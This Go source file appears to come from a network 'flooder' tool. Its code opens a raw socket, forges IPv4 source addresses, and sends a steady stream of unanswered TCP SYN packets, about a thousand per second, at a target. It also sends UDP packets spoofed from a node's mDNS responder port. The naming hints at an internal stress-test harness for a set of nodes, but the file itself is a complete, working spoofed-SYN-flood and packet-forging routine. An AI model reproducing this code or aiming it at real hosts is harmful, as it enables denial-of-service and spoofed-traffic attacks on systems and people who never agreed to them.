package main

import (
	"context"
	"encoding/binary"
	"net"
	"net/netip"
	"syscall"
)

// raw sends IPv4 packets of which it writes the headers itself, the sender's
// address among them.
type raw int

func newRaw() (raw, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, syscall.IPPROTO_RAW)
	return raw(fd), err
}

// sends a segment of TCP or a datagram of UDP, whose checksum stands at so many bytes.
func (r raw) sends(protocol byte, from, to netip.Addr, segment []byte, checksum int) error {
	src, dst := from.As4(), to.As4()
	pseudo := append(append(append([]byte{}, src[:]...), dst[:]...), 0, protocol, byte(len(segment)>>8), byte(len(segment)))
	binary.BigEndian.PutUint16(segment[checksum:], 0)
	binary.BigEndian.PutUint16(segment[checksum:], sumOf(append(pseudo, segment...)))
	header := make([]byte, 20)
	header[0], header[8], header[9] = 0x45, 255, protocol // the kernel fills in length and checksum
	copy(header[12:], src[:])
	copy(header[16:], dst[:])
	return syscall.Sendto(int(r), append(header, segment...), 0, &syscall.SockaddrInet4{Addr: dst})
}

// sumOf is the checksum of the Internet (RFC 1071).
func sumOf(b []byte) uint16 {
	sum := uint32(0)
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(b[0])<<8 | uint32(b[1])
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// syns begins connections from addresses that nobody has, and from those of the
// nodes, and finishes none.
func (f *flooder) syns(ctx context.Context, target string) {
	r, err := newRaw()
	if err != nil {
		return
	}
	defer syscall.Close(int(r))
	to := netip.MustParseAddr(target)
	n := 0
	every(ctx, 1000, func() {
		n++
		from := netip.AddrFrom4([4]byte{10, 203, 3, byte(160 + n%90)})
		if n%10 == 0 {
			from = netip.MustParseAddr(f.Targets[n/10%len(f.Targets)])
		}
		if from == to {
			return
		}
		segment := make([]byte, 20)
		binary.BigEndian.PutUint16(segment, uint16(1024+n%60000))
		binary.BigEndian.PutUint16(segment[2:], 8643)
		binary.BigEndian.PutUint32(segment[4:], uint32(n)*2654435761) // another number each time
		segment[12], segment[13] = 5<<4, 2                            // five words, SYN
		binary.BigEndian.PutUint16(segment[14:], 65535)
		if r.sends(syscall.IPPROTO_TCP, from, to, segment, 16) == nil {
			f.sent[syns].Add(1)
		}
	})
}

// spoofs sends a packet from the address and the port of a node's responder.
func (f *flooder) spoofs(r raw, packet []byte, from string, to *net.UDPAddr) {
	addr, ok := netip.AddrFromSlice(to.IP.To4())
	if !ok || from == addr.String() {
		return
	}
	datagram := make([]byte, 8, 8+len(packet))
	binary.BigEndian.PutUint16(datagram, 5353)
	binary.BigEndian.PutUint16(datagram[2:], uint16(to.Port))
	binary.BigEndian.PutUint16(datagram[4:], uint16(8+len(packet)))
	if r.sends(syscall.IPPROTO_UDP, netip.MustParseAddr(from), addr, append(datagram, packet...), 6) == nil {
		f.sent[spoofed].Add(1)
	}
}
